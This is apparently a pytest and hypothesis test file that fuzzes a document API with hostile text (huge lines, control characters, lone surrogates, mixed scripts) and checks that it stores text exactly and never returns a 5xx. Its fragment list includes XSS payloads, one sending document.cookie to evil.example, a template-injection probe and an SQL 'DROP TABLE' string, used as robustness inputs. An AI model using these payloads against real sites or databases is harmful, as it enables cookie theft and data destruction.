"""Hostile text fields against the live gunicorn: huge lines, control characters, mixed scripts,
lone surrogates, HTML and script tags, only punctuation. Each answer is a documented one and never
a 5xx; what is stored comes back exactly; a brief of it ends `done` or `failed` with a reason,
never with an internal error.
"""

from __future__ import annotations

import json
import os
from typing import Any

import pytest
import requests
from hypothesis import HealthCheck, Phase, given, settings
from hypothesis import strategies as st

pytestmark = pytest.mark.slow

EXAMPLES = int(os.environ.get("CONTRACT_EXAMPLES", "25"))
FRAGMENTS = [
    "<script>alert(document.cookie)</script>",
    '<img src=x onerror="fetch(`//evil.example/`+document.cookie)">',
    "</textarea><svg/onload=alert(1)>",
    "{{7*7}} ${7*7} <%= 7*7 %>",
    "'; DROP TABLE documents; --",
    "\u202eevil\u202c \u200b\u200d\ufeff",
    "\x01\x02\x07\x08\x0b\x0c\x1b[31m\x7f",
    "Zürich Ελλάδα Кыргызстан 日本語 العربية עברית हिन्दी 🇺🇦👩‍👩‍👧",
    "e\u0301\u0301\u0301\u0301 Z̷̢͚a̸̙͝l̵̰͠g̸̣͐o̶̜͝",
    "!!! ??? ... ;;; --- *** ((( )))",
    "\r\n\r\n\t\t",
]
HOSTILE_TEXTS = {
    "huge line": "A" * 250_000,
    "huge line of words": "word " * 50_000,
    "control characters": "".join(chr(c) for c in range(1, 32)) + "Text after controls.",
    "mixed scripts": FRAGMENTS[7] * 20 + " Ende.",
    "html and script": " ".join(FRAGMENTS[:4]) + " The end.",
    "only punctuation": "!?.,;:-—()[]{}«»“”‘’…" * 40,
    "bidi and zero width": FRAGMENTS[5] * 50,
    "combining marks": FRAGMENTS[8] * 100,
    "emoji only": "🔥💧🌍" * 300,
    "newlines only then text": "\n" * 5000 + "A sentence at last.",
}
text_fields = st.one_of(
    st.sampled_from(FRAGMENTS),
    st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=6).map(" ".join),
    st.text(
        alphabet=st.characters(codec="utf-8", exclude_characters="\x00"), min_size=1, max_size=300
    ),
    st.text(min_size=1, max_size=50),  # any code point, surrogates and NUL included
)


def post_raw(server, auth, body: str) -> requests.Response:
    """Send `body` as is: JSON escapes such as "\\ud800" reach the server unaltered."""
    headers = {**auth, "Content-Type": "application/json"}
    return requests.post(
        f"{server.url}/v1/documents", data=body.encode("utf-8"), headers=headers, timeout=60
    )


def check_answer(api_schema, response: requests.Response) -> dict[str, Any]:
    assert response.status_code < 500, response.text[:500]
    api_schema["/v1/documents"]["POST"].validate_response(response)
    # 409: the same text came again with another title (content-derived IDs).
    assert str(response.status_code) in ("200", "201", "400", "409", "413"), response.text[:500]
    return dict(response.json())


@pytest.mark.parametrize("name", sorted(HOSTILE_TEXTS))
def test_each_hostile_text_is_stored_exactly_or_refused_clearly(api_schema, auth, server, name):
    text = HOSTILE_TEXTS[name]
    url = f"https://example.org/{FRAGMENTS[1]}"  # only http(s) addresses are stored
    body = json.dumps({"text": text, "title": FRAGMENTS[0], "url": url})
    answer = check_answer(api_schema, post_raw(server, auth, body))
    if "error" in answer:
        assert answer["error"]["code"] == "invalid_field", answer  # e.g. white space only
        return
    (stored,) = answer["documents"]
    document = requests.get(f"{server.url}/v1/documents/{stored['id']}", headers=auth, timeout=60)
    assert document.status_code == 200
    assert document.json()["text"] == text
    assert document.json()["title"] == FRAGMENTS[0]


@pytest.mark.parametrize(
    "escape", ["\\ud800", "\\udfff", "a\\ud83dz", "\\u0000", "ok \\udc00\\ud800 reversed"]
)
def test_lone_surrogates_and_nul_are_refused_not_crashed_on(api_schema, auth, server, escape):
    response = post_raw(server, auth, '{"text": "Before ' + escape + ' after."}')
    answer = check_answer(api_schema, response)
    assert response.status_code == 400 and answer["error"]["field"] == "text", answer


def test_fuzzed_text_fields_never_break_the_service(api_schema, auth, server):
    stored: dict[str, str] = {}

    @given(text=text_fields, title=st.one_of(st.none(), text_fields))
    @settings(
        max_examples=EXAMPLES * 4,
        deadline=None,
        database=None,
        derandomize=True,
        phases=[Phase.explicit, Phase.generate],
        suppress_health_check=list(HealthCheck),
    )
    def send(text: str, title: str | None) -> None:
        body = {"text": text}
        if title is not None and len(title) <= 1000:
            body["title"] = title
        raw = json.dumps(body)  # escapes lone surrogates as \\udXXX, as a client's encoder would
        answer = check_answer(api_schema, post_raw(server, auth, raw))
        if "documents" in answer:
            stored[answer["documents"][0]["id"]] = text

    send()
    assert stored, "no fuzzed text was accepted"
    for document_id, text in list(stored.items())[:40]:
        got = requests.get(f"{server.url}/v1/documents/{document_id}", headers=auth, timeout=60)
        assert got.json()["text"] == text

    ids = list(stored)[:30]
    body = {"document_ids": ids, "max_words": 100}
    job = requests.post(f"{server.url}/v1/briefs", json=body, headers=auth, timeout=60).json()
    for _ in range(60):
        url = f"{server.url}/v1/briefs/{job['id']}?wait=1"
        job = requests.get(url, headers=auth, timeout=60).json()
        if job["status"] in ("done", "failed"):
            break
    assert job["status"] in ("done", "failed"), job
    if job["status"] == "failed":
        assert not job["error"]["reason"].startswith("internal error"), job["error"]
    else:
        for sentence in job["brief"]["sentences"]:
            for citation in sentence["citations"]:
                text = stored[citation["document_id"]]
                assert 0 <= citation["start"] < citation["end"] <= len(text)
